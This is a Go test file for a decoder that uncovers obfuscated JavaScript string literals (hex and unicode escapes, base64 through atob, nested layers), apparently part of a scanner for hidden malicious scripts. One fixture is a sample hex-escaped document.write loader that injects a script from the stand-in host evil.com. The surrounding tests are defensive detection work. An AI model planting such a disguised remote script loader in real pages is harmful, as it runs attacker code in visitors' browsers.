package decode

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestSpansExact(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   string
		want []Span
	}{
		{
			name: "hex literal",
			in:   `var u = '\x68\x69 there';`,
			want: []Span{{Start: 9, End: 23, Text: []byte("hi there"), Chain: []Family{HexEscape}}},
		},
		{
			name: "atob then escapes",
			in:   "x=atob('" + b64(`\x68\x69`) + "')",
			want: []Span{
				{Start: 2, End: 22, Text: []byte(`\x68\x69`), Chain: []Family{Base64}},
				{Start: 2, End: 22, Text: []byte("hi"), Chain: []Family{Base64, HexEscape}},
			},
		},
		{
			name: "two literals",
			in:   `a='\x61'; b="\u0062";`,
			want: []Span{
				{Start: 3, End: 7, Text: []byte("a"), Chain: []Family{HexEscape}},
				{Start: 13, End: 19, Text: []byte("b"), Chain: []Family{UnicodeEscape}},
			},
		},
		{
			// The backtick and apostrophe in the first string open no literal: one would
			// run to the comment's backtick, code taken for text.
			name: "quotes of other kinds in a string",
			in:   "var c = \"[ \\\\ ` ' ]\";\nvar u = '\\x61';\n// see `x`\n",
			want: []Span{{Start: 31, End: 35, Text: []byte("a"), Chain: []Family{HexEscape}}},
		},
		{
			name: "a literal in a string ends in it",
			in:   `x = "<a href='\x61'>";`,
			want: []Span{
				{Start: 5, End: 20, Text: []byte("<a href='a'>"), Chain: []Family{HexEscape}},
				{Start: 14, End: 18, Text: []byte("a"), Chain: []Family{HexEscape}},
			},
		},
		{
			// The apostrophe in the regular expression opens a "literal" that is the code up
			// to the apostrophe inside the loader's string: that string runs past it, on its
			// line, and is read whole (minified code is one line).
			name: "a string past a quote in a regular expression",
			in:   `s=s.replace(/'/g,"&#39;");document.write("<script src='\x68ttps://\x65vil.com/a.js'><\/script>");`,
			want: []Span{{Start: 42, End: 94, Text: []byte("<script src='https://evil.com/a.js'></script>"), Chain: []Family{HexEscape}}},
		},
		{name: "plain code", in: `function f(a, b) { return a + "b" + 'c'.length; }`},
		{name: "empty", in: ``},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, truncated := Spans([]byte(tt.in), Options{})
			if truncated {
				t.Errorf("Spans(%q) truncated", tt.in)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Spans(%q) mismatch (-want +got):\n%s", tt.in, diff)
			}
		})
	}
}

func TestSpansMaxDepth(t *testing.T) {
	t.Parallel()
	in := testURL
	for range 6 {
		in = b64(in)
	}
	in = "p='" + in + "'"
	tests := []struct {
		depth int
		want  int // layers peeled
	}{
		{1, 1}, {2, 2}, {4, 4}, {6, 6},
	}
	for _, tt := range tests {
		spans, _ := Spans([]byte(in), Options{MaxDepth: tt.depth})
		most := 0
		for _, s := range spans {
			most = max(most, len(s.Chain))
		}
		if most != tt.want {
			t.Errorf("Spans(6×base64, MaxDepth %d) peeled %d layers, want %d", tt.depth, most, tt.want)
		}
	}
}

func TestSpansBudget(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for range 2000 {
		b.WriteString("u='" + hexEsc(testURL, 1) + "';\n")
	}
	in := []byte(b.String())
	all, truncated := Spans(in, Options{})
	if truncated || len(all) != 2000 {
		t.Fatalf("Spans(2000 literals) = %d spans, truncated %v, want 2000, false", len(all), truncated)
	}
	some, truncated := Spans(in, Options{Budget: 10 * len(testURL)})
	if !truncated || len(some) > 10 {
		t.Errorf("Spans(2000 literals, Budget for 10) = %d spans, truncated %v, want <= 10, true", len(some), truncated)
	}
}

func TestSpansHostile(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   string
	}{
		{"open quotes", strings.Repeat(`'\'`, 20000)},
		{"parens", strings.Repeat("atob(", 20000)},
		{"brackets", strings.Repeat("[", 50000)},
		{"nested arrays", strings.Repeat("['a',", 20000)},
		{"long concat", strings.Repeat("'a'+", 50000) + "'b'"},
		{"long base64", "'" + strings.Repeat("QUFB", 200000) + "'"},
		{"backticks", strings.Repeat("`x", 50000)},
		{"percent", strings.Repeat("%41", 100000)},
		{"entities", strings.Repeat("&#65;", 100000)},
		{"high bytes", strings.Repeat("\xff\xfe", 100000)},
		{"defang", strings.Repeat("a[.]", 100000)},
		{"charcodes", "String.fromCharCode(" + strings.Repeat("65,", 100000) + "65)"},
		{"backslashes", "'" + strings.Repeat(`\`, 100001) + "'"},
		{"slashes", strings.Repeat("://1", 100000)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			spans, _ := Spans([]byte(tt.in), Options{})
			checkBounds(t, tt.in[:min(len(tt.in), 1)], nil)
			for _, s := range spans {
				if s.Start < 0 || s.Start >= s.End || s.End > len(tt.in) {
					t.Fatalf("span [%d,%d) outside input", s.Start, s.End)
				}
			}
		})
	}
}
